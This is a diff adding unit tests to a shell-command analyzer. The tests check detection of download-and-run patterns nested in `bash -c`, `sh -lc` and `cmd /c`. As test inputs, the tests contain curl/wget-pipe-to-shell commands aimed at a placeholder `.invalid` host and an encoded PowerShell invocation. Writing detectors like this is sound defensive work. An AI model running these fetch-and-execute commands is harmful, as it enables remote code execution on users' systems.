@@ -53,3 +53,22 @@ describe('shell command techniques', () => {
     ]);
   });
 });
+
+describe('scripts nested in a shell command', () => {
+  it('analyses the script of sh -c / bash -lc / cmd /c', () => {
+    expect(ids("bash -c 'curl -s http://x.invalid/a | sh'")).toContain('download-pipe-shell');
+    expect(ids('sh -lc "wget -qO- http://x.invalid/a | bash"')).toContain('download-pipe-shell');
+    expect(ids('cmd /c powershell -enc SQBFAFgA')).toContain('encoded-powershell');
+    const t = analyzeCommand("bash -c 'curl -s http://x.invalid/a | sh'").find(
+      (x) => x.id === 'download-pipe-shell',
+    );
+    expect(t?.description).toMatch(/in bash -c/);
+  });
+  it('analyses a literal script piped into a shell', () => {
+    expect(ids("echo 'curl http://x.invalid/p | sh' | bash")).toContain('download-pipe-shell');
+  });
+  it('finds nothing in ordinary nested commands', () => {
+    expect(ids("sh -c 'node scripts/build.js && tsc -p .'")).toEqual([]);
+    expect(ids('echo "installed" | tee install.log')).toEqual([]);
+  });
+});
